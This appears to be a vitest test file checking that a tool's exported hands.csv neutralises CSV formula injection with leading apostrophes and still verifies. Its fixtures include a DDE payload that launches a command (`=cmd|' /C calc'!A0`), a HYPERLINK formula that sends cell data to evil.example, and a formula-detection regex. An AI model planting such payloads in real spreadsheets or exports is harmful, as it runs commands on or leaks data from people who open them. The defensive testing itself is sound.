// The regulator's bundle (veedor export) holds hands.csv, the hand index: every hand's hand_id, table_id, dealer_id
// and shoe_id as the log wrote them. A log's ids are the log writer's to choose; a dealer_id `=cmd|' /C calc'!A0`
// reached hands.csv as the cell "=cmd|' /C calc'!A0", which a spreadsheet opening the bundle runs as a formula
// (quoting a CSV field does not make it text). Every other CSV Veedor writes neutralises such a cell with a leading
// apostrophe (OWASP CSV injection); the bundle's did not. The bundle must still give back the stored values exactly
// (verify --bundle recomputes every row's digest from it): a text cell that starts like a formula, or with an
// apostrophe, is written with one apostrophe more, which the reader takes off (format veedor-bundle/2). A bundle of
// veedor-bundle/1 (no apostrophes added) still verifies as it was written.
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { cli, cloneHands, requireBuild, tempDir, writeNdjson } from './helpers.js';

const IDS: [string, string, string, string][] = [
  // hand_id, table_id, dealer_id, shoe_id
  ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+T-1', '=cmd|\' /C calc\'!A0', '@SUM(1+1)'],
  ['H-2', '-T-2', '\'=already quoted', ' =1+1'],
  ['H-3', 'T-3', 'D-3', '\'plain apostrophe'],
  ['H-4', 'PL-03', '\uFF1D1+1', 'S-4'],
];

function bundle(): { dir: string; csv: string } {
  requireBuild();
  const dir = tempDir('bundle-formula');
  const hands = cloneHands(IDS.length);
  IDS.forEach(([hand, table, dealer, shoe], i) => Object.assign(hands[i]!, { hand_id: hand, table_id: table, dealer_id: dealer, shoe_id: shoe }));
  writeNdjson(join(dir, 'evil.ndjson'), hands);
  const a = cli(['audit', 'evil.ndjson', '--db', 's.db', '--lang', 'en'], dir);
  expect(a.stderr).toMatch(/stored run R-[0-9a-f]{16} in s\.db \(4 hands/);
  const e = cli(['export', 'latest', '--db', 's.db', '--out', 'bundle', '--lang', 'en'], dir);
  expect(e.code, e.stderr).toBe(0);
  return { dir, csv: readFileSync(join(dir, 'bundle', 'hands.csv'), 'utf8') };
}

describe('the bundle\'s hands.csv', () => {
  it('no cell a spreadsheet would run as a formula; the ids given back exactly; verify --bundle passes', () => {
    const { dir, csv } = bundle();
    const rows = Papa.parse<Record<string, string>>(csv.trim(), { header: true }).data;
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        expect(cell, `${column}: ${cell}`).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]|^\s+[=+\-@]/);
      }
    }
    // Each id with its apostrophe where it starts like a formula or with an apostrophe; the rest as they are.
    expect(rows.map((r) => [r['hand_id'], r['table_id'], r['dealer_id'], r['shoe_id']])).toEqual([
      ['\'=HYPERLINK("http://evil.example/?d="&A1,"open")', '\'+T-1', '\'=cmd|\' /C calc\'!A0', '\'@SUM(1+1)'],
      ['H-2', '\'-T-2', '\'\'=already quoted', '\' =1+1'],
      ['H-3', 'T-3', 'D-3', '\'\'plain apostrophe'],
      ['H-4', 'PL-03', '\'\uFF1D1+1', 'S-4'],
    ]);
    const v = cli(['verify', '--bundle', 'bundle', '--lang', 'en'], dir);
    expect(v.stdout).toMatch(/✔ VERIFIED: the files are the ones sealed\n$/);
    expect(v.code).toBe(0);
  }, 60_000);

  it('one apostrophe taken off where none was added fails verification: the marks are part of what is sealed', () => {
    const { dir, csv } = bundle();
    const path = join(dir, 'bundle', 'hands.csv');
    writeFileSync(path, csv.replace('"\'\'plain apostrophe"', '"\'plain apostrophe"'));
    const v = cli(['verify', '--bundle', 'bundle', '--lang', 'en'], dir);
    expect(v.code).toBe(1);
    expect(v.stdout).toMatch(/✖ NOT VERIFIED\n$/);
  }, 60_000);

  it('a veedor-bundle/1 bundle (written before the apostrophes) still verifies', () => {
    const { dir } = bundle();
    // What version 1 wrote for these ids: the same file without the added apostrophes.
    const path = join(dir, 'bundle', 'hands.csv');
    const manifestPath = join(dir, 'bundle', 'manifest.json');
    const v1 = readFileSync(path, 'utf8').replace(/(^|,)"'/gm, '$1"');
    writeFileSync(path, v1);
    const manifest = JSON.parse(readFileSync(manifestPath, 'utf8'));
    manifest.format = 'veedor-bundle/1';
    manifest.files['hands.csv'] = { ...manifest.files['hands.csv'], sha256: createHash('sha256').update(v1).digest('hex'), bytes: Buffer.byteLength(v1) };
    writeFileSync(manifestPath, JSON.stringify(manifest, null, 2) + '\n');
    const v = cli(['verify', '--bundle', 'bundle', '--lang', 'en'], dir);
    expect(v.stdout).toMatch(/✔ VERIFIED: the files are the ones sealed\n$/);
    expect(v.code).toBe(0);
  }, 60_000);
});
